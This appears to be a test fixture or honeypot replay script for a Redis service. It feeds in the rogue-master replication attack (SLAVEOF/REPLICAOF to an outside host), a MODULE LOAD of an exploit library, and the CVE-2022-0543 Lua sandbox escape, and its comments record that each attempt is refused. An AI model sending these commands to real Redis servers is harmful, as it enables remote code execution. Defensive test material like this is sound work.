# rogue master (recorded, never contacted), a module load refused, the
# CVE-2022-0543 Lua escape with the sandbox's error and the script's SHA1
open redis 6379
> SLAVEOF 192.0.2.7 21000\r\n
> REPLICAOF 192.0.2.7 x\r\n
> SLAVEOF NO ONE\r\n
> MODULE LOAD /tmp/exp.so\r\n
> *3\r\n$4\r\nEVAL\r\n$96\r\nlocal io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); return 1\r\n$1\r\n0\r\n
> EVAL "return 1" 0\r\n
close
